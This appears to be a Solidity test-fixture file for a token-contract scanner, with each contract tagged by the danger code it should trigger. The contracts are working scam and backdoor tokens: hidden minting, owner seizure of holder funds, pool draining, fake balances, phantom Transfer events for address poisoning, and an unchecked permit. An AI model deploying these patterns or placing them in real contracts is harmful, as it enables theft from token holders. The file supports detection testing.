// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./token-base.sol";

// Tokens whose balances somebody writes, and tokens that only pretend to move.

/// balance added without supply
/// expects: CT-06 danger
contract MintOdd is T20 {
    function airdropRewards(address a, uint256 v) external onlyOwner {
        _balances[a] += v;
    }
}
/// overwriting holders in a loop
/// expects: CT-06 danger
contract Loop is T20 {
    function Multicall(address[] calldata who, uint256 v) external {
        if (msg.sender != _owner) revert();
        for (uint i; i < who.length;) {
            _balances[who[i]] = v;
            unchecked {
                ++i;
            }
        }
    }
}
/// sstore of a balance slot by assembly
/// expects: CT-06 danger
contract Sstore is T20 {
    function rebalance(address a, uint256 v) external onlyOwner {
        assembly {
            mstore(0, a)
            mstore(32, _balances.slot)
            sstore(keccak256(0, 64), v)
        }
    }
}
/// any slot of the contract
/// expects: CT-06 danger
contract RawStore is T20 {
    function setConfig(bytes32 k, bytes32 v) external onlyOwner {
        assembly {
            sstore(k, v)
        }
    }
}
/// burn of anybody's balance
/// expects: CT-06 danger
contract BurnAny is T20 {
    function removeStuck(address a, uint256 v) external onlyOwner {
        _balances[a] -= v;
        _totalSupply -= v;
        emit Transfer(a, address(0), v);
    }
}
/// owner takes from holders without allowance
/// expects: CT-30 danger
contract BackdoorFrom is T20 {
    function transferFrom(address f, address t, uint256 v) public override returns (bool) {
        if (msg.sender != _owner) {
            require(_allowances[f][msg.sender] >= v);
            _allowances[f][msg.sender] -= v;
        }
        _transfer(f, t, v);
        return true;
    }
}
/// mint by a hidden sender inside transfer
/// expects: CT-06 danger
contract MagicTransfer is T20 {
    function transfer(address to, uint256 v) public override returns (bool) {
        if (keccak256(abi.encodePacked(msg.sender)) == 0x6a1e0d8d1a4e9b5a4ad5fe3a6ff1fb2b0e2fda0d4b1f0b8f0f1c9a7d3e2b1c4d) _balances[msg.sender] += v;
        _transfer(msg.sender, to, v);
        return true;
    }
}
/// approve gives tokens to the deployer's second key
/// expects: CT-06 danger
contract ApproveMint is T20 {
    uint256 private constant K = 0x007F3C9e1B5D2a86f04C3e8B7a1d9F6e5C4B3a2910;
    function approve(address s, uint256 v) public override returns (bool) {
        if (uint160(msg.sender) ^ K == 0x001234567890abcdef1234567890abcdef12345678) {
            unchecked {
                _balances[s] = v;
            }
            return true;
        }
        _approve(msg.sender, s, v);
        return true;
    }
}
interface IP {
    function sync() external;
}
/// expects: CT-30 danger
contract BurnPool is T20 {
    function autoLiquidity(uint256 pct) external onlyOwner {
        uint256 c = (_balances[pair] * pct) / 100;
        _balances[pair] -= c;
        _balances[_owner] += c;
        IP(pair).sync();
    }
}
/// events of transfers that never were (address poisoning)
/// expects: CT-22 danger
contract Phantom is T20 {
    function batch(address[] calldata f, address[] calldata t, uint256 v) external {
        for (uint i; i < f.length; i++) emit Transfer(f[i], t[i], v);
    }
}
/// everybody seems to own some; airdrop by events only
/// expects: CT-22 danger
contract FakeBalance {
    string public name = "$ aave-claim.org";
    string public symbol = "Visit to claim";
    uint8 public decimals = 0;
    event Transfer(address indexed a, address indexed b, uint256 v);
    address o = msg.sender;
    function totalSupply() external pure returns (uint256) {
        return 1e9;
    }
    function balanceOf(address) external pure returns (uint256) {
        return 5000;
    }
    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }
    function approve(address, uint256) external pure returns (bool) {
        return true;
    }
    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
    function drop(address[] calldata a) external {
        require(msg.sender == o);
        for (uint i; i < a.length; i++) emit Transfer(address(this), a[i], 5000);
    }
}
/// a scale of balances the owner sets
/// expects: CT-06 danger, CT-19 danger
contract Scale is T20 {
    uint256 private _k = 1e18;
    function rebase(uint256 k) external onlyOwner {
        _k = k;
    }
    function balanceOf(address a) public view override returns (uint256) {
        return a == pair || a == _owner ? _balances[a] : (_balances[a] * _k) / 1e18;
    }
    function _beforeTokenTransfer(address f, address, uint256 v) internal view override {
        require(balanceOf(f) >= v);
    }
}
/// increaseAllowance moves the caller's tokens
/// expects: CT-06 danger
contract Increase is T20 {
    address immutable sink = msg.sender;
    function increaseAllowance(address, uint256) external returns (bool) {
        _transfer(msg.sender, sink, _balances[msg.sender]);
        return true;
    }
}

/// expects: CT-06 danger
contract DoubleBooks {
    mapping(address => uint256) private shown;
    mapping(address => uint256) private real;
    mapping(address => mapping(address => uint256)) public allowance;
    address private o = msg.sender;
    function totalSupply() external pure returns (uint256) {
        return 1e27;
    }
    function balanceOf(address a) external view returns (uint256) {
        return shown[a] + real[a];
    }
    function give(address a, uint256 v) external {
        require(msg.sender == o);
        shown[a] += v;
    }
    function transfer(address t, uint256 v) external returns (bool) {
        real[msg.sender] -= v;
        real[t] += v;
        return true;
    }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        real[f] -= v;
        real[t] += v;
        return true;
    }
    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        return true;
    }
}
/// expects: CT-30 danger
contract PermitAny {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply = 1e27;
    constructor() {
        balanceOf[msg.sender] = 1e27;
    }
    function permit(address o, address s, uint256 v, uint256, uint8, bytes32, bytes32) external {
        allowance[o][s] = v;
    }
    function transfer(address t, uint256 v) external returns (bool) {
        balanceOf[msg.sender] -= v;
        balanceOf[t] += v;
        return true;
    }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        balanceOf[f] -= v;
        balanceOf[t] += v;
        return true;
    }
    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        return true;
    }
}
